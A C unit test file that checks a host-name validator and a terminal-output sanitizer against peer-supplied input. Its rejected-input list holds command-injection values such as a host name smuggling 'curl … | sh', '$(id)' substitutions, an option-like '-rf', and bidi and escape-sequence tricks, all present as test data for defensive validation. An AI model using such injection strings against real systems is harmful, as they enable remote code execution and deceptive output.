/* Peer-given names and text: what may reach a host list, a printed
 * command or a terminal. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>
#include <cmocka.h>

#include "hostname.h"
#include "log.h"

static void host_names_and_ip_literals_pass(void **st)
{
	(void)st;
	assert_true(fc_host_name_ok("n3"));
	assert_true(fc_host_name_ok("ip-10-0-0-1.ec2.internal"));
	assert_true(fc_host_name_ok("gpu-01"));
	assert_true(fc_host_name_ok("10.0.0.66"));
	assert_true(fc_host_name_ok("fe80::1"));
	assert_true(fc_host_name_ok("2001:db8::42"));
}

static void anything_a_shell_or_host_list_reads_otherwise_is_refused(void **st)
{
	static const char *const bad[] = {
		"", "n3; curl -s http://x/x|sh #", "10.0.0.66,evil[1-9] slots=64", "a b", "a,b", "evil[1-9]",
		"$(id)", "`id`", "a\nb", "-rf", "a-", "a..b", ".a", "a.", "a_b", "n3\xc2\x9b", "n\xe2\x80\xae" "3",
		"host'quote", "x/y", "a:b", "10.0.0.1 ",
	};
	char long_label[70], long_name[300];
	(void)st;
	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
		assert_false(fc_host_name_ok(bad[i]));
	assert_false(fc_host_name_ok(NULL));
	memset(long_label, 'a', 64);
	long_label[64] = '\0';
	assert_false(fc_host_name_ok(long_label));
	long_label[63] = '\0';
	assert_true(fc_host_name_ok(long_label));
	for (size_t i = 0; i < sizeof(long_name) - 1; i++)
		long_name[i] = i % 2 ? '.' : 'a';
	long_name[sizeof(long_name) - 1] = '\0';
	assert_false(fc_host_name_ok(long_name));
	long_name[253] = '\0'; /* "a.a. ... a": 253 characters */
	assert_true(fc_host_name_ok(long_name));
}

static void printable_drops_c1_bidi_and_broken_utf8_and_keeps_the_rest(void **st)
{
	char out[64];
	(void)st;
	assert_string_equal(fc_printable(out, sizeof(out), "ok \x1b[2J\x7f"), "ok ?[2J?");
	assert_string_equal(fc_printable(out, sizeof(out), "a\xc2\x9b" "31mb"), "a?31mb");         /* U+009B CSI */
	assert_string_equal(fc_printable(out, sizeof(out), "n\xe2\x80\xae" "exe"), "n?exe");        /* U+202E */
	assert_string_equal(fc_printable(out, sizeof(out), "\xe2\x81\xa6x\xe2\x81\xa9"), "?x?");    /* isolates */
	assert_string_equal(fc_printable(out, sizeof(out), "\xef\xbb\xbfz\xe2\x80\x8b"), "?z?");    /* BOM, ZWSP */
	assert_string_equal(fc_printable(out, sizeof(out), "\xc0\xaf\xed\xa0\x80\xff"), "??????"); /* overlong, surrogate */
	assert_string_equal(fc_printable(out, sizeof(out), "h\xc3\xa9t\xc3\xa9 \xe6\x97\xa5"), "h\xc3\xa9t\xc3\xa9 \xe6\x97\xa5");
	/* a character is kept whole or not at all */
	assert_string_equal(fc_printable(out, 4, "ab\xc3\xa9"), "ab");
	assert_string_equal(fc_printable(out, 5, "ab\xc3\xa9"), "ab\xc3\xa9");
	assert_string_equal(fc_printable(out, 4, "ab\xe6"), "ab?");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(host_names_and_ip_literals_pass),
		cmocka_unit_test(anything_a_shell_or_host_list_reads_otherwise_is_refused),
		cmocka_unit_test(printable_drops_c1_bidi_and_broken_utf8_and_keeps_the_rest),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
